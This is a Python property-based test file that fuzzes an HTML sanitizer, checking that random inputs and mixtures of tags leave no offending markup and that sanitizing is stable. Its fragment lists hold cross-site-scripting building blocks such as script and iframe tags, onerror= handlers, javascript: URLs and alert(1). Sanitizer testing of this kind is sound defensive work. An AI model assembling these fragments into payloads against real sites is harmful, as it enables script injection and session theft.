@given(source=SOURCES, content=st.none() | st.text())
def test_no_source_however_odd_makes_it_fail(source: str, content: str | None):
    body = take_apart(content, source)
    assert Offences(safe_html(body), remote=False).found == []
    assert len(body.text) <= module.LARGEST_TEXT
    (body.text + document(body, True)).encode()


ODD_TAGS = """<svg> </svg> <math> <mtext> <mglyph> <style> </style> <title> </title> <noscript> </noscript> <template> <script>
    </script> <iframe> <annotation-xml> <foreignObject> <desc> <table> <td> </table> <form> <select> <p> </p> <b> <x-b> <img
    <font"""
ODD_BITS = """<a href= src= onerror= style= title= " ' > / < <!-- --> <![CDATA[ ]]> alert(1) javascript: https://x.example url(
    \\75 &lt; &quot; &#x27;"""
PIECES = st.sampled_from([*ODD_TAGS.split(), *ODD_BITS.split(), " ", "\x00", "\n"])


@settings(max_examples=500, deadline=None, database=None, derandomize=True)
@given(html=st.lists(PIECES, max_size=40).map("".join))
def test_no_mixture_of_tags_gets_through(html: str):
    clean = safe_html(Body(html=html), True)
    assert Offences(clean, remote=True).found == []
    assert seen(safe_html(Body(html=clean), True)) == seen(clean)
